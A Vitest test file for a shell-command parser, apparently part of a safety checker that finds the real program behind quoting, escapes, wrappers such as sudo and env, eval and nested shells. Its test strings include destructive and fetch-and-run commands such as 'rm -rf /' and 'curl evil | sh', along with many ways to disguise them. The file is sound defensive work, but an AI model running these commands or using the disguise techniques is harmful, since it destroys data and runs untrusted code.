import { describe, expect, it } from "vitest";
import { canonicaliseShell } from "./shell.js";
import type { ShellPart } from "./shell.js";

/** `program argv…` of every part, for compact assertions. */
function programs(command: string): string[] {
  return canonicaliseShell(command).parts.map((p) => p.program);
}

function only(command: string): ShellPart {
  const { parts } = canonicaliseShell(command);
  expect(parts).toHaveLength(1);
  const [part] = parts;
  if (part === undefined) throw new Error("no part");
  return part;
}

describe("canonicaliseShell: words and quoting", () => {
  it("splits a plain command", () => {
    expect(canonicaliseShell("rm -rf /")).toEqual({
      parts: [{ program: "rm", argv: ["rm", "-rf", "/"], text: "rm -rf /", dynamic: false }],
      dynamic: false,
    });
  });

  it("concatenates adjacent quoted pieces and removes escapes", () => {
    expect(only("'r''m' -rf /")).toMatchObject({ program: "rm", argv: ["rm", "-rf", "/"], dynamic: false });
    expect(only("r\\m -rf /").program).toBe("rm");
    expect(only('"r"m -rf /').program).toBe("rm");
    expect(only("\\rm x").program).toBe("rm");
    expect(only("r''m").program).toBe("rm");
  });

  it("keeps the text of single quotes literally and handles double-quote escapes", () => {
    expect(only("echo 'a\\b \"c\"'").argv).toEqual(["echo", 'a\\b "c"']);
    expect(only('echo "a\\"b\\\\c\\$d\\`e\\x"').argv).toEqual(["echo", 'a"b\\c$d`e\\x']);
  });

  it("decodes ANSI-C quoting instead of calling it dynamic", () => {
    expect(only("$'\\x72\\x6d' -rf /")).toMatchObject({ program: "rm", dynamic: false });
    expect(only("$'\\162m'").program).toBe("rm");
    expect(only("echo $'a\\nb\\u00e9\\xc3\\xa9'").argv[1]).toBe("a\nbéé");
    expect(only("echo $'ab\\x00cd'").argv[1]).toBe("ab");
  });

  it("takes the basename of the program but keeps argv[0] as written", () => {
    expect(only("/usr/bin/rm -rf /")).toMatchObject({ program: "rm", argv: ["/usr/bin/rm", "-rf", "/"] });
    expect(only("./rm x")).toMatchObject({ program: "rm", argv: ["./rm", "x"] });
    expect(only("../../bin//rm x").program).toBe("rm");
  });

  it("drops comments", () => {
    expect(canonicaliseShell("# just a comment").parts).toEqual([]);
    expect(canonicaliseShell("  \n\t# a\n# b\n").parts).toEqual([]);
    expect(canonicaliseShell("").parts).toEqual([]);
    expect(only("ls # ; rm -rf /").argv).toEqual(["ls"]);
    expect(only("echo a#b").argv).toEqual(["echo", "a#b"]);
  });

  it("joins continued lines", () => {
    expect(only("r\\\nm -rf \\\n /").argv).toEqual(["rm", "-rf", "/"]);
  });

  it("removes redirections from argv", () => {
    expect(only("ls -l > out.txt 2>&1").argv).toEqual(["ls", "-l"]);
    expect(only("cat < in >> out 2> err &> all 3>/dev/null <<< 'hi'").argv).toEqual(["cat"]);
    expect(only("2>/dev/null rm x").argv).toEqual(["rm", "x"]);
    expect(only("echo a>b").argv).toEqual(["echo", "a"]);
    expect(only("echo hi >| f").argv).toEqual(["echo", "hi"]);
  });

  it("skips leading assignments", () => {
    expect(only("FOO=1 BAR='x y' rm -rf /")).toMatchObject({ program: "rm", argv: ["rm", "-rf", "/"] });
    expect(only("A+=1 B[0]=2 ls").program).toBe("ls");
    expect(only("'A=1' ls").program).toBe("A=1");
  });

  it("keeps assignment-only and redirection-only commands visible with an empty program", () => {
    expect(only("PATH=/tmp/evil")).toEqual({ program: "", argv: [], text: "PATH=/tmp/evil", dynamic: false });
    expect(only("> /etc/passwd")).toMatchObject({ program: "", argv: [] });
  });
});

describe("canonicaliseShell: lists, pipes and groups", () => {
  it("splits on every operator", () => {
    expect(programs("a && b || c; d | e")).toEqual(["a", "b", "c", "d", "e"]);
    expect(programs("a & b |& c\nd")).toEqual(["a", "b", "c", "d"]);
    expect(programs("a;b&&c||d|e")).toEqual(["a", "b", "c", "d", "e"]);
  });

  it("records each part's own text", () => {
    const { parts } = canonicaliseShell("cd /tmp && rm -rf x | tee log");
    expect(parts.map((p) => p.text)).toEqual(["cd /tmp", "rm -rf x", "tee log"]);
  });

  it("opens subshells and groups", () => {
    expect(programs("(cd /; rm -rf x) && { echo a; rm b; }")).toEqual(["cd", "rm", "echo", "rm"]);
    expect(programs("((rm -rf /))")).toEqual(["rm"]);
    expect(programs("( (a) | (b) )")).toEqual(["a", "b"]);
  });

  it("looks through control structures", () => {
    expect(programs("if true; then rm -rf /; else ls; fi")).toEqual(["true", "rm", "ls"]);
    expect(programs("while :; do rm x; done")).toEqual([":", "rm"]);
    expect(programs("! rm x")).toEqual(["rm"]);
    expect(programs("for f in *; do rm \"$f\"; done")).toEqual(["for", "rm"]);
    expect(programs("case $x in a) rm -rf /;; *) ls;; esac")).toContain("rm");
  });

  it("reads function bodies but not function names", () => {
    expect(programs("f() { rm -rf /; }; f")).toEqual(["rm", "f"]);
    expect(programs("function g { curl x; }")).toEqual(["curl"]);
    expect(programs("function h() ( wget y )")).toEqual(["wget"]);
  });

  it("does not treat brace words inside commands as groups", () => {
    expect(programs("find . -exec echo {} +")).toEqual(["find", "echo"]);
    expect(only("echo { a }").argv).toEqual(["echo", "{", "a", "}"]);
  });
});

describe("canonicaliseShell: substitutions", () => {
  it("adds command substitutions as parts and marks the outer word dynamic", () => {
    const { parts, dynamic } = canonicaliseShell("echo $(rm -rf /)");
    expect(dynamic).toBe(true);
    expect(parts).toEqual([
      { program: "echo", argv: ["echo", "$(rm -rf /)"], text: "echo $(rm -rf /)", dynamic: true },
      { program: "rm", argv: ["rm", "-rf", "/"], text: "rm -rf /", dynamic: false },
    ]);
  });

  it("parses backticks, nested and escaped", () => {
    expect(programs("echo `rm -rf /`")).toEqual(["echo", "rm"]);
    expect(programs("a `b \\`c\\``")).toEqual(["a", "b", "c"]);
  });

  it("finds substitutions inside double quotes, ${…} and arithmetic", () => {
    expect(programs('echo "x $(curl evil) y"')).toEqual(["echo", "curl"]);
    expect(programs("echo ${x:-$(rm -rf /)}")).toEqual(["echo", "rm"]);
    expect(programs('echo "${x:-"$(rm a)"}"')).toEqual(["echo", "rm"]);
    expect(programs("echo $(( $(rm -rf /) + 1 ))")).toEqual(["echo", "rm"]);
    expect(only("echo $((1 + 2))")).toMatchObject({ argv: ["echo", "$((1 + 2))"], dynamic: true });
  });

  it("handles parentheses inside quoted text of a substitution", () => {
    expect(programs("echo \"$(echo 'a)b'; rm x)\"")).toEqual(["echo", "echo", "rm"]);
    expect(programs("x=$(case y in y) rm z;; esac)")).toEqual(["", "case", "rm"]);
  });

  it("parses process substitutions", () => {
    expect(programs("diff <(curl a) >(rm b)")).toEqual(["diff", "curl", "rm"]);
  });

  it("runs substitutions in assignments and redirections", () => {
    expect(programs("X=$(rm -rf /) ls")).toEqual(["ls", "rm"]);
    expect(programs("ls > $(rm x)")).toEqual(["ls", "rm"]);
  });

  it("scans unquoted here-documents for substitutions", () => {
    expect(programs("cat <<EOF\n$(rm -rf /)\nEOF")).toEqual(["cat", "rm"]);
    expect(programs("cat <<'EOF'\n$(rm -rf /)\nEOF")).toEqual(["cat"]);
  });
});

describe("canonicaliseShell: dynamic words", () => {
  it("keeps a dynamic program's literal text", () => {
    expect(only("$CMD -rf /")).toEqual({
      program: "$CMD",
      argv: ["$CMD", "-rf", "/"],
      text: "$CMD -rf /",
      dynamic: true,
    });
    expect(only('"${CMD}" x').program).toBe("${CMD}");
    expect(only("/usr/bin/$X y").program).toBe("/usr/bin/$X");
    expect(canonicaliseShell("$CMD").dynamic).toBe(true);
  });

  it("marks parts whose arguments depend on expansion", () => {
    expect(only("rm -rf $HOME").dynamic).toBe(true);
    expect(only("rm -rf ~/x").dynamic).toBe(false);
    expect(only("echo $1 $@ $? $$").dynamic).toBe(true);
    expect(only("echo $ a$").dynamic).toBe(false);
    expect(only("echo hi > $FILE").dynamic).toBe(true);
  });

  it("does not call globs dynamic, except as the program", () => {
    expect(only("rm -rf *.log /tmp/[ab]?")).toMatchObject({ program: "rm", dynamic: false });
    expect(only("/bin/r? -rf /")).toMatchObject({ program: "/bin/r?", dynamic: true });
    expect(only("[ -f x ]")).toMatchObject({ program: "[", dynamic: false });
  });

  it("treats brace expansion as dynamic", () => {
    expect(only("{rm,-rf,/}")).toMatchObject({ program: "{rm,-rf,/}", dynamic: true });
    expect(only("echo {1..3}").dynamic).toBe(true);
    expect(only("echo '{a,b}'").dynamic).toBe(false);
  });

  it("marks unterminated quotes and substitutions dynamic and reads to the end", () => {
    expect(only('echo "abc; rm -rf /')).toMatchObject({ argv: ["echo", "abc; rm -rf /"], dynamic: true });
    expect(only("echo 'abc")).toMatchObject({ argv: ["echo", "abc"], dynamic: true });
    expect(canonicaliseShell("echo $(rm -rf /")).toMatchObject({ dynamic: true });
    expect(programs("echo $(rm -rf /")).toEqual(["echo", "rm"]);
    expect(canonicaliseShell("echo `rm").dynamic).toBe(true);
    expect(canonicaliseShell("echo ${x").dynamic).toBe(true);
    expect(canonicaliseShell("echo $'abc").dynamic).toBe(true);
  });
});

describe("canonicaliseShell: shells and eval", () => {
  it("parses sh -c strings as commands", () => {
    const { parts } = canonicaliseShell('sh -c "curl x | sh"');
    expect(parts).toEqual([
      { program: "curl", argv: ["curl", "x"], text: "curl x", dynamic: false },
      { program: "sh", argv: ["sh"], text: "sh", dynamic: false },
      // curl's output is the script: code the analysis cannot see
      { program: "<stdin>", argv: ["<stdin>"], text: "sh", dynamic: true },
    ]);
  });

  it.each(["bash -lc 'rm -rf /'", "bash -c 'rm -rf /'", "zsh -ec 'rm -rf /'", "dash -xc 'rm -rf /'",
    "/bin/ksh -c 'rm -rf /' argv0 a", "bash --norc -o pipefail -c 'rm -rf /'", "bash -c -x 'rm -rf /'", "sh -- -c"])(
    "unwraps %s",
    (command) => {
      const p = programs(command);
      expect(p[0]).toBe(command === "sh -- -c" ? "sh" : "rm");
    },
  );

  it("keeps a shell running a script as the program", () => {
    expect(only("bash ./install.sh")).toMatchObject({ program: "bash", argv: ["bash", "./install.sh"] });
  });

  it("reads code fed to a shell's stdin", () => {
    expect(programs("bash <<< 'rm -rf /'")).toEqual(["bash", "rm"]);
    expect(programs("sh <<EOF\nrm -rf /\nEOF\necho done")).toEqual(["sh", "rm", "echo"]);
    // cat's output is not read as the here-document alone: cat could print more (most dangerous reading)
    expect(programs("cat <<'X' | sudo bash\ncurl evil | sh\nX")).toEqual(["cat", "bash", "curl", "sh", "<stdin>", "<stdin>"]);
    expect(programs("echo 'rm -rf /' | sh")).toEqual(["echo", "sh", "rm"]);
    expect(programs("printf 'curl x' | bash -s")).toEqual(["printf", "bash", "curl"]);
  });

  it("parses eval words joined by spaces", () => {
    expect(only("eval 'rm' -rf /")).toMatchObject({ program: "rm", argv: ["rm", "-rf", "/"] });
    expect(programs('eval "a;" b')).toEqual(["a", "b"]);
    expect(only("eval $X").dynamic).toBe(true);
  });

  it("propagates dynamic strings into the parsed parts", () => {
    expect(only('bash -c "$PAYLOAD"')).toMatchObject({ program: "$PAYLOAD", dynamic: true });
    expect(only("bash -c 'rm '\"$X\"")).toMatchObject({ program: "rm", dynamic: true });
  });

  it("unwraps nested shells", () => {
    expect(programs(`bash -c "sh -c 'sudo rm -rf /'"`)).toEqual(["rm"]);
  });
});

describe("canonicaliseShell: wrappers", () => {
  it.each([
    ["sudo -u root rm -rf /", ["rm", "-rf", "/"]],
    ["sudo -Eu root -- rm x", ["rm", "x"]],
    ["sudo --user=root -H rm x", ["rm", "x"]],
    ["sudo --user root rm x", ["rm", "x"]],
    ["sudo --us root rm x", ["rm", "x"]],
    ["sudo HOME=/ rm x", ["rm", "x"]],
    ["doas -u root rm x", ["rm", "x"]],
    ["env FOO=1 /bin/rm -rf /", ["/bin/rm", "-rf", "/"]],
    ["env -i -u HOME -C /tmp A=1 rm x", ["rm", "x"]],
    ["env - rm x", ["rm", "x"]],
    ["env -- rm x", ["rm", "x"]],
    ["nohup rm x", ["rm", "x"]],
    ["time -p rm x", ["rm", "x"]],
    ["nice -n 10 rm x", ["rm", "x"]],
    ["nice -10 rm x", ["rm", "x"]],
    ["ionice -c 3 -n7 rm x", ["rm", "x"]],
    ["timeout 5 rm x", ["rm", "x"]],
    ["timeout -s KILL -k 1 --foreground 5s rm x", ["rm", "x"]],
    ["stdbuf -oL -e 0 rm x", ["rm", "x"]],
    ["exec -a name rm x", ["rm", "x"]],
    ["command rm x", ["rm", "x"]],
    ["command -p rm x", ["rm", "x"]],
    ["builtin rm x", ["rm", "x"]],
    ["busybox rm -rf /", ["rm", "-rf", "/"]],
    ["/usr/bin/sudo /usr/bin/env nohup nice rm x", ["rm", "x"]],
  ])("unwraps %s", (command, argv) => {
    const part = only(command);
    expect(part.program).toBe("rm");
    expect(part.argv).toEqual(argv);
    expect(part.text).toBe(command);
  });

  it("keeps a wrapper without a command as the program", () => {
    expect(only("sudo -l").program).toBe("sudo");
    expect(only("env").program).toBe("env");
    expect(only("env A=1").program).toBe("env");
    expect(only("timeout 5").program).toBe("timeout");
    expect(only("command -v rm").program).toBe("command");
  });

  it("parses env -S strings as commands", () => {
    expect(only("env -S 'rm -rf' /")).toMatchObject({ program: "rm", argv: ["rm", "-rf", "/"] });
    expect(only("env -S'A=1 rm -f' x")).toMatchObject({ program: "rm", argv: ["rm", "-f", "x"] });
    expect(only('env --split-string="sudo rm" x')).toMatchObject({ program: "rm", argv: ["rm", "x"] });
  });

  it("unwraps xargs and marks its command dynamic", () => {
    const { parts } = canonicaliseShell("find . -name '*.tmp' | xargs rm");
    expect(parts.map((p) => [p.program, p.dynamic])).toEqual([["find", false], ["rm", true]]);
    expect(only("xargs -0 -n 1 -I{} rm -f {}")).toMatchObject({ program: "rm", argv: ["rm", "-f", "{}"] });
    expect(only("xargs -i sh -c 'rm {}'")).toMatchObject({ program: "rm", dynamic: true });
    expect(only("xargs").program).toBe("xargs");
  });

  it("adds the commands of find -exec", () => {
    const { parts } = canonicaliseShell("find / -name x -exec rm -f {} \\; -execdir sudo shred {} +");
    expect(parts.map((p) => p.program)).toEqual(["find", "rm", "shred"]);
    expect(parts[1]).toMatchObject({ argv: ["rm", "-f", "{}"], dynamic: true });
  });

  it("unwraps su -c", () => {
    expect(only("su -c 'rm -rf /' root").program).toBe("rm");
    expect(only("su - root -c 'rm -rf /'").program).toBe("rm");
    expect(only("su root").program).toBe("su");
  });

  it("keeps a dynamic word where the command should be", () => {
    expect(only("sudo $CMD x")).toMatchObject({ program: "$CMD", dynamic: true });
  });
});

describe("canonicaliseShell: limits and totality", () => {
  it("marks deep nesting dynamic instead of recursing forever", () => {
    const deep = `${"$(".repeat(5000)}rm -rf /${")".repeat(5000)}`;
    const result = canonicaliseShell(deep);
    expect(result.dynamic).toBe(true);
    let nested = "rm -rf /";
    // Each level doubles the escaping, so 20 levels is already ~2 MB.
    for (let i = 0; i < 20; i++) nested = `bash -c ${JSON.stringify(nested)}`;
    expect(canonicaliseShell(nested).dynamic).toBe(true);
    expect(canonicaliseShell(`${"eval ".repeat(100)}x`).dynamic).toBe(true);
  });

  it("reads normal nesting fully", () => {
    expect(programs("echo $(echo $(echo $(rm -rf /)))")).toEqual(["echo", "echo", "echo", "rm"]);
  });

  it("survives adversarial input in bounded time", () => {
    const inputs = [
      "${x:-".repeat(50_000),
      "((".repeat(50_000),
      "$((".repeat(50_000),
      '"$("'.repeat(50_000),
      "`".repeat(50_000),
      "a;".repeat(50_000),
      "nohup ".repeat(50_000),
      "cat <<A\n".repeat(50_000),
      "\\".repeat(50_001),
      "'".repeat(50_001),
    ];
    let nested = "rm";
    for (let i = 0; i < 15; i++) nested = `bash -c "$(${nested})"`;
    inputs.push(nested);
    for (const input of inputs) {
      const start = Date.now();
      expect(() => canonicaliseShell(input)).not.toThrow();
      expect(Date.now() - start).toBeLessThan(2000);
    }
  });

  it("falls back to one opaque dynamic part when the work budget runs out", () => {
    let nested = "rm -rf /";
    for (let i = 0; i < 15; i++) nested = `bash -c "$(${nested})"`;
    const result = canonicaliseShell(nested);
    expect(result.dynamic).toBe(true);
  });

  it("never throws on non-strings", () => {
    expect(canonicaliseShell(undefined as unknown as string)).toEqual({
      parts: [{ program: "", argv: [], text: "", dynamic: true }],
      dynamic: true,
    });
  });

  it("is deterministic", () => {
    const command = "sudo -u x bash -c 'a | b $(c)' && `d` ; e=$(f) g <<< h";
    expect(canonicaliseShell(command)).toEqual(canonicaliseShell(command));
  });
});

describe("the plain-line fast path", () => {
  it("agrees with the full analysis on generated plain lines", async () => {
    const { analyseFully } = await import("./shell.js");
    const alphabet = ["ls", "rm", "-rf", "/", "./x", "/usr/bin/rm", "a=b", "--opt=1", "x:y", "user@host", "50%", "+x", "a,b", "-", "--", "sudo", "env", "sh", "find", "-exec", "xargs", "if", "then", "A=1", ".", ".."];
    let seed = 42;
    const next = () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff);
    for (let i = 0; i < 3000; i++) {
      const n = 1 + (next() % 5);
      const words = Array.from({ length: n }, () => alphabet[next() % alphabet.length]!);
      const line = `${next() % 3 === 0 ? " " : ""}${words.join(next() % 4 === 0 ? "  " : " ")}${next() % 3 === 0 ? " " : ""}`;
      expect(canonicaliseShell(line), line).toEqual(analyseFully(line));
    }
  });
});
